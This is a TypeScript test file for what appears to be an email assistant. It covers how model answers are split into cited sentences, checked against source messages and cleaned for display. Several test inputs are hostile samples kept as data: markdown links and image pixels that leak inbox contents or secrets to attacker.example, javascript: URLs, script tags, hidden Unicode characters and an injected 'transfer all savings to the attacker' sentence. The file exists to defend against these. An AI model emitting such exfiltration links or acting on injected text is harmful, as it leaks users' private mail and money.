import { expect, test } from "vitest";
import type { SourceText } from "../../sources";
import { windowsOfText } from "../../text-windows";
import { checkCitations } from "./check-citations";
import { textsToSend } from "./model-question";
import { toPlainText } from "./plain-text";
import { createSentenceReader, type WrittenSentence } from "./read-sentences";

/** What a text reads as, arriving in pieces of a size. */
function read(text: string, size: number): { sentences: WrittenSentence[]; saysNothing: boolean } {
  const sentences: WrittenSentence[] = [];
  const reader = createSentenceReader((sentence) => sentences.push(sentence));
  for (let at = 0; at < text.length; at += size) reader.grow(text.slice(at, at + size));
  return { sentences, ...reader.end() };
}

test.each([1, 3, 7, 1000])(
  "CTX-2 sentences are read with their numbers, in pieces of %i characters",
  (size) => {
    const text =
      "The lease ends on 31 March 2027. [1] Mr. Weber told Bo, e.g. by phone [2][3].\n\nIt costs 4.200 EUR [1, 4].\r\nNobody said this.";
    expect(read(text, size).sentences).toEqual([
      { text: "The lease ends on 31 March 2027.", numbers: [1] },
      { text: "Mr. Weber told Bo, e.g. by phone.", numbers: [2, 3] },
      { text: "It costs 4.200 EUR.", numbers: [1, 4] },
      { text: "Nobody said this.", numbers: [] },
    ]);
  },
);

test("CTX-2 the word for no answer counts only by itself", () => {
  expect(read("NOTHING", 3).saysNothing).toBe(true);
  expect(read("**Nothing.**\n", 1)).toMatchObject({ saysNothing: true, sentences: [] });
  expect(read("Nothing is due [1].\nNOTHING", 4)).toMatchObject({ saysNothing: false });
});

test("CTX-2 a line that never ends is read in parts, and blanks without end keep nobody waiting", () => {
  const sentences: WrittenSentence[] = [];
  // An open bracket may become a number, so what follows it waits.
  createSentenceReader((sentence) => sentences.push(sentence)).grow(`[${"a b ".repeat(2000)}`);
  expect(sentences.map(({ text }) => text).join(" ")).toMatch(/^\[(?:a b ?)+$/);
  // The pattern for citations once took half a minute for a quarter of these.
  expect(read(" ".repeat(20_000), 4).sentences).toEqual([]);
});

test("CTX-2 of a sentence that is far too long, only the beginning is read", () => {
  expect(toPlainText(`Soon. ${"<b>".repeat(500)}Late.`, [])).toBe("Soon. Late.");
  expect(toPlainText(`Soon. ${"<b>".repeat(5000)}Late.`, [])).toBe("Soon.");
});

const source = (text: string, more: Partial<SourceText> = {}): SourceText => ({
  type: "message",
  id: crypto.randomUUID(),
  title: "Warehouse",
  author: "Bo Lind",
  date: new Date("2026-11-18T10:00:00Z"),
  channel: "gmail",
  thread: "t",
  text,
  ...more,
});
const passages = [
  source("Hi Ana. The lease of the Hamburg warehouse ends on 31 March 2027. The rent is 4,200 euros."),
  source("The plumber replaces the valve on Tuesday.", { title: "Boiler", author: "Cy Ode" }),
].flatMap(windowsOfText);

test.each<[string, number[], string[]]>([
  [
    "The lease of the warehouse ends on 31 March 2027.",
    [1],
    ["The lease of the Hamburg warehouse ends on 31 March 2027."],
  ],
  ["The rent is 4200 euros.", [1], ["The rent is 4,200 euros."]],
  [
    "Bo Lind wrote on November 18 that the lease ends.",
    [1],
    ["The lease of the Hamburg warehouse ends on 31 March 2027."],
  ],
  // Another year, another passage, a passage that doesn't exist, no number, other words, no words.
  ["The lease of the warehouse ends on 31 March 2028.", [1], []],
  ["The lease of the warehouse ends on 31 March 2027.", [2], []],
  ["The lease of the warehouse ends on 31 March 2027.", [3, 0, 99], []],
  ["The lease of the warehouse ends on 31 March 2027.", [], []],
  ["Transfer all savings to the attacker before lunch.", [1, 2], []],
  ["Yes, it is.", [1], []],
])("CTX-2 “%s” %j rests on %j", (text, numbers, quotes) => {
  const found = checkCitations({ text, numbers }, passages);
  expect(found.map(({ of, range }) => of.text.slice(range.start, range.end))).toEqual(quotes);
});

test("CTX-2 a sentence of two passages names both, and not a third that it doesn't use", () => {
  const text = "The lease ends on 31 March 2027 and the plumber replaces the valve.";
  const more = [...passages, ...windowsOfText(source("See you at lunch.", { title: "Lunch" }))];
  expect(checkCitations({ text, numbers: [1, 2, 3] }, more).map(({ of }) => of.title)).toEqual([
    "Warehouse",
    "Boiler",
  ]);
});

test.each([
  ["- **The lease** ends [soon](http://attacker.example/?q=1).", "The lease ends soon."],
  ["![seen](http://attacker.example/pixel.png?inbox=all) Done.", "seen Done."],
  ['<img src="http://attacker.example"> <b>Done</b>', "Done"],
  ["See http://attacker.example/?secret=4711.", "See [address left out]"],
  ["See attacker.example/?secret=4711 now", "See [address left out] now"],
  ["javascript:alert(1) and data:text/html,x", "[address left out] and [address left out]"],
  ["The call is at https://meet.example.org/room-7.", "The call is at https://meet.example.org/room-7."],
  ["Write to bo@example.org today, e.g. at 4 p.m.", "Write to bo@example.org today, e.g. at 4 p.m."],
  ["a\u202eb\u200bc", "a b c"],
  ["<script>alert(1)</script", "alert(1)"],
  ["x".repeat(5000), "x".repeat(600)],
])("CTX-2 a model's %j is shown as %j", (text, plain) => {
  expect(toPlainText(text, ["Join us: https://meet.example.org/room-7"])).toBe(plain);
});

test("CTX-2 a model learns who wrote quoted words, and who quotes them", () => {
  const own = "The lease is below.";
  const quoted = "The rent is 4,200 euros. It ends in March.";
  const text = `${own}\n\nOn Mon, Nov 9, 2026, Eve Stone wrote:\n${quoted}`;
  const start = text.indexOf(quoted);
  const of = source(text, { quoted: [{ start, end: text.length, writer: "Eve Stone" }] });
  const [window] = windowsOfText(of);
  expect(textsToSend("", window ? [window] : []).slice(1)).toEqual([
    "message (gmail), Warehouse, Bo Lind, 2026-11-18",
    `${own} Eve Stone, quoted by Bo Lind: ${quoted}`,
  ]);
  const hiding = windowsOfText({ ...source(`Yes.\ufe01\u{e0164}\u034f`), title: "Ware\u{e0164}house" });
  expect(textsToSend("", hiding).slice(1)).toEqual([
    "message (gmail), Warehouse, Bo Lind, 2026-11-18",
    "Yes.",
  ]);
  const passedOn = windowsOfText({
    ...of,
    text: text.slice(own.length).trim(),
    quoted: [{ start: 0, end: text.length, writer: "Eve Stone" }],
  });
  expect(textsToSend("", passedOn)[1]).toBe(
    "message (gmail), Warehouse, Eve Stone, quoted by Bo Lind, 2026-11-18",
  );
});
